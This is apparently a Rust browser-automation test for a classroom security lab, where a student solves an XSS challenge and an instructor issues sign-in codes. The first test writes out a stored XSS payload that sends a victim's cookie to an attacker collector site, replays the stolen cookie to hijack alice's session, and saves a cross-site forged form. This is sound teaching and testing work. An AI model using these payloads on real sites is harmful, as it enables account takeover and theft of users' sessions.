//! The class as its people use it: real Chromium on `localhost` names, as
//! on a student's own machine, driven by the mouse and the keyboard (no
//! header set by the test, no form posted by a client).
//!
//! A student signs in by name, reveals every hint of a challenge, solves
//! hijack-xss from the browser (a guestbook entry typed as bob, alice sent,
//! her cookie read off the attacker site's log and replayed in the
//! browser's console), watches the solve appear on a scoreboard opened in a
//! second browser without reloading it, takes a copy of alice's cookie,
//! saves an attacker page, and sees a form on that page that posts to the
//! hub refused. Under `--require-code` the instructor signs in with the key,
//! issues a code, a student signs in with it, and the instructor sees the
//! student's progress. Every page must fit a 1280 px wide window.
//!
//! Needs Debian's `chromium`; skipped without it unless
//! `SESSIONLAB_REQUIRE_CHROMIUM=1` (set by `.ci/run`).

mod common;

use std::time::{Duration, Instant};

use common::{INSTRUCTOR_KEY, chromium_missing, config, note_of, start_class};
use serde_json::Value;
use sessionlab_app::ProfileName;
use sessionlab_chromium::ChromiumBrowser;
use sessionlab_classroom::BotBrowser;
use sessionlab_classroom::challenges::{self, Kind};
use url::Url;

/// The window the pages must fit: a laptop's, a projector's.
const WINDOW_WIDTH: u32 = 1280;
/// How soon a solve must show on a page already open.
const SOLVE_SHOWS_WITHIN: Duration = Duration::from_secs(2);

/// A person at their own machine: a browser that reaches `*.localhost`.
struct Person {
    browser: ChromiumBrowser,
}

impl Person {
    async fn new(name: &str) -> Self {
        let mut browser = ChromiumBrowser::on_localhost(name);
        browser
            .set_viewport(WINDOW_WIDTH, 800)
            .await
            .expect("a window");
        Self { browser }
    }

    async fn open(&mut self, url: &str) -> String {
        let page = self
            .browser
            .open(&Url::parse(url).unwrap())
            .await
            .unwrap_or_else(|e| panic!("open {url}: {e}"));
        page.url.path().to_owned()
    }

    async fn type_into(&mut self, selector: &str, text: &str) {
        self.browser
            .type_into(selector, text)
            .await
            .unwrap_or_else(|e| panic!("type into {selector}: {e}"));
    }

    /// Presses `selector` and answers the path of the page it led to and its status.
    async fn press(&mut self, selector: &str) -> (String, u16) {
        let page = self
            .browser
            .press(selector)
            .await
            .unwrap_or_else(|e| panic!("press {selector}: {e}"));
        (page.url.path().to_owned(), page.status)
    }

    async fn eval(&mut self, expression: &str) -> Value {
        self.browser
            .evaluate(expression)
            .await
            .unwrap_or_else(|e| panic!("{expression}: {e}"))
    }

    /// The text of the first element `selector` finds, as shown.
    async fn text(&mut self, selector: &str) -> String {
        let script = format!(
            "document.querySelector({})?.innerText ?? ''",
            serde_json::json!(selector)
        );
        self.eval(&script).await.as_str().unwrap_or("").to_owned()
    }

    async fn href(&mut self, selector: &str) -> String {
        let script = format!(
            "document.querySelector({})?.href ?? ''",
            serde_json::json!(selector)
        );
        let href = self.eval(&script).await.as_str().unwrap_or("").to_owned();
        assert!(!href.is_empty(), "the page links {selector}");
        href.trim_end_matches('/').to_owned()
    }

    /// How wide the page is laid out, in CSS pixels.
    async fn page_width(&mut self) -> u64 {
        self.eval("document.documentElement.scrollWidth")
            .await
            .as_u64()
            .unwrap_or(u64::MAX)
    }

    async fn assert_fits(&mut self, what: &str) {
        let width = self.page_width().await;
        assert!(
            width <= u64::from(WINDOW_WIDTH),
            "{what} is {width} px wide in a {WINDOW_WIDTH} px window"
        );
    }
}

/// The scoreboard row's state cell of `challenge`.
fn state_of(challenge: &str) -> String {
    format!("#challenge-{challenge} .status")
}

fn hint_levels(challenge: &str) -> usize {
    challenges::all()
        .iter()
        .find(|entry| entry.id == challenge)
        .and_then(|entry| match &entry.kind {
            Kind::Challenge(c) => Some(c.hints.len()),
            _ => None,
        })
        .unwrap_or_else(|| panic!("{challenge} is a challenge"))
}

/// Signs in on the hub's front page with `name` (and `code`): the page it led to.
async fn sign_in(person: &mut Person, hub: &str, name: &str, code: Option<&str>) -> (String, u16) {
    person.open(hub).await;
    person
        .type_into("form[action=\"/signin\"] input[name=\"name\"]", name)
        .await;
    if let Some(code) = code {
        person
            .type_into("form[action=\"/signin\"] input[name=\"code\"]", code)
            .await;
    }
    person.press("form[action=\"/signin\"] button").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_student_presses_every_button_and_solves_hijack_xss_from_the_browser() {
    if chromium_missing() {
        return;
    }
    let class = start_class(config(ProfileName::Insecure, BotBrowser::Chromium)).await;
    let hub = class.hub_url();
    let mut ann = Person::new("ann").await;

    let (at, status) = sign_in(&mut ann, &hub, "ann", None).await;
    assert_eq!((at.as_str(), status), ("/lab", 200), "ann signed in");
    assert!(ann.text("h1").await.contains("ann"), "her lab page");
    ann.assert_fits("the lab page").await;
    let seat_code = ann.text("#seat-code").await;
    let app = ann.href("#app-url").await;
    let attacker = ann
        .eval("[...document.links].map(a => a.origin).find(o => o.includes('.attacker.')) ?? ''")
        .await
        .as_str()
        .unwrap_or("")
        .to_owned();
    assert!(!attacker.is_empty(), "the lab page links her attacker site");

    // Every hint level, one press each.
    let levels = hint_levels("hijack-xss");
    for level in 1..=levels {
        let (at, status) = ann
            .press("#challenge-hijack-xss form[action=\"/lab/hint\"] button")
            .await;
        assert_eq!((at.as_str(), status), ("/lab", 200), "hint {level}");
        assert!(
            ann.text("#challenge-hijack-xss")
                .await
                .contains(&format!("Hint {level}")),
            "hint {level} of {levels} shows"
        );
    }
    let more = ann
        .eval("document.querySelector('#challenge-hijack-xss form[action=\"/lab/hint\"]') !== null")
        .await;
    assert_eq!(more, Value::Bool(false), "no hint button after the last");

    // A second browser of hers, signed in with the seat code, watches the
    // scoreboard; it is not reloaded from here on.
    let mut watcher = Person::new("ann-too").await;
    let (at, _) = sign_in(&mut watcher, &hub, "", Some(&seat_code)).await;
    assert_eq!(
        at, "/lab",
        "the seat code signs her in from another browser"
    );
    watcher.open(&format!("{hub}scoreboard")).await;
    watcher.assert_fits("the scoreboard").await;
    assert!(
        watcher
            .text(&state_of("hijack-xss"))
            .await
            .contains("not solved"),
        "open at first"
    );

    // As bob, in her own browser: a guestbook entry that sends whoever reads
    // it to her collector, cookie and all.
    ann.open(&format!("{app}/login")).await;
    ann.type_into("#username", "bob").await;
    ann.type_into("#password", "builder").await;
    let (at, _) = ann.press("form:has(#password) button").await;
    assert_ne!(at, "/login", "bob logged in");
    ann.open(&format!("{app}/guestbook")).await;
    let payload = format!(
        "Nice lab! <script>new Image().src = '{attacker}/c?' + encodeURIComponent(document.cookie);</script>"
    );
    ann.type_into("#message", &payload).await;
    ann.press("form:has(#message) button").await;

    ann.open(&hub).await;
    let (at, status) = ann.press("#alice-ordinary").await;
    assert_eq!((at.as_str(), status), ("/lab", 200), "alice went");

    // Her cookie, as the attacker site's log shows it; the image request may
    // still be on its way when her visit ends.
    let mut stolen = String::new();
    let began = Instant::now();
    while stolen.is_empty() && began.elapsed() < Duration::from_secs(10) {
        ann.open(&format!("{hub}lab")).await;
        stolen = ann
            .eval(
                "(() => { const cell = [...document.querySelectorAll('td')].map(td => td.innerText)\
                   .find(t => t.includes('/c?') && t.includes('%3D')); \
                   return cell ? decodeURIComponent(cell.split('/c?')[1].trim()) : ''; })()",
            )
            .await
            .as_str()
            .unwrap_or("")
            .to_owned();
    }
    assert!(!stolen.is_empty(), "alice's cookie reached the collector");

    // In the browser's console on her app: alice's cookie in place of bob's.
    ann.open(&format!("{app}/")).await;
    for pair in stolen.split(';') {
        let script = format!("document.cookie = {}", serde_json::json!(pair.trim()));
        ann.eval(&script).await;
    }
    let asked = Instant::now();
    ann.open(&format!("{app}/account")).await;
    let note = note_of(&class, "ann");
    assert!(
        ann.text("body").await.contains(&note),
        "the replayed cookie shows alice's note"
    );
    loop {
        let state = watcher.text(&state_of("hijack-xss")).await;
        if state.contains("solved") && !state.contains("not solved") {
            break;
        }
        assert!(
            asked.elapsed() < SOLVE_SHOWS_WITHIN,
            "the open scoreboard shows the solve within {SOLVE_SHOWS_WITHIN:?}: {state}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        watcher
            .text(&state_of("referer-leak"))
            .await
            .contains("not solved"),
        "the payload's request had a Referer with her ID; that is not the referer-leak technique"
    );

    // Take a copy of the cookie she left behind.
    ann.open(&format!("{hub}lab")).await;
    let (at, _) = ann.press("#take-copy").await;
    assert_eq!(at, "/lab");
    assert!(!ann.text("#copy").await.trim().is_empty(), "a copy shows");

    // Save an attacker page with a form that posts to the hub's reset.
    let page = format!(
        "<h1 id=\"mine\">Win a prize</h1><form method=\"post\" action=\"{hub}lab/reset\"><button id=\"prize\">Claim</button></form>"
    );
    ann.eval("document.querySelector('form[action=\"/lab/page\"] textarea').value = ''")
        .await;
    ann.type_into("form[action=\"/lab/page\"] textarea", &page)
        .await;
    let (at, status) = ann.press("form[action=\"/lab/page\"] button").await;
    assert_eq!((at.as_str(), status), ("/lab", 200), "the page is saved");
    ann.open(&format!("{attacker}/")).await;
    assert_eq!(
        ann.text("#mine").await,
        "Win a prize",
        "the attacker site serves it"
    );
    let (_, status) = ann.press("#prize").await;
    assert_eq!(
        status, 403,
        "a POST from the attacker site to the hub is refused"
    );
    assert!(
        !ann.text("#refused").await.is_empty(),
        "the refusal says why"
    );
    watcher.open(&format!("{hub}scoreboard")).await;
    assert!(
        !watcher
            .text(&state_of("hijack-xss"))
            .await
            .contains("not solved"),
        "the refused reset changed nothing"
    );
    class.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn under_require_code_the_instructor_issues_a_code_and_sees_the_students_progress() {
    if chromium_missing() {
        return;
    }
    let mut settings = config(ProfileName::Insecure, BotBrowser::Sim);
    settings.require_code = true;
    let class = start_class(settings).await;
    let hub = class.hub_url();

    let mut teacher = Person::new("instructor").await;
    teacher.open(&format!("{hub}instructor")).await;
    teacher
        .type_into(
            "form[action=\"/instructor/signin\"] input[name=\"key\"]",
            INSTRUCTOR_KEY,
        )
        .await;
    let (at, status) = teacher
        .press("form[action=\"/instructor/signin\"] button")
        .await;
    assert_eq!(
        (at.as_str(), status),
        ("/instructor", 200),
        "signed in with the key"
    );
    teacher
        .eval("document.querySelector('form[action=\"/instructor/codes\"] input[name=\"count\"]').value = ''")
        .await;
    teacher
        .type_into(
            "form[action=\"/instructor/codes\"] input[name=\"count\"]",
            "1",
        )
        .await;
    teacher
        .press("form[action=\"/instructor/codes\"] button")
        .await;
    let code = teacher.text("#codes").await.trim().to_owned();
    assert!(
        !code.is_empty() && !code.contains(' '),
        "one code: {code:?}"
    );

    let mut bea = Person::new("bea").await;
    let (at, status) = sign_in(&mut bea, &hub, "bea", None).await;
    assert_ne!((at.as_str(), status), ("/lab", 200), "no code, no lab");
    let (at, status) = sign_in(&mut bea, &hub, "bea", Some(&code)).await;
    assert_eq!(
        (at.as_str(), status),
        ("/lab", 200),
        "the issued code opens a lab"
    );
    let (at, _) = bea
        .press("#challenge-hijack-xss form[action=\"/lab/hint\"] button")
        .await;
    assert_eq!(at, "/lab");

    teacher.open(&format!("{hub}instructor")).await;
    // bea's cell under the hijack-xss column: the hints she used.
    let cell = teacher
        .eval(
            "(() => { const rows = [...document.querySelectorAll('#progress tr')]; \
               const column = [...rows[0].cells].findIndex(c => c.innerText.includes('hijack-xss')); \
               const row = rows.find(r => r.cells[0]?.innerText.trim() === 'bea'); \
               return row && column >= 0 ? row.cells[column].innerText.trim() : null; })()",
        )
        .await;
    assert_eq!(
        cell.as_str(),
        Some("1"),
        "the instructor sees bea's one hint of hijack-xss"
    );
    teacher.assert_fits("the instructor's page").await;
    class.shutdown().await;
}
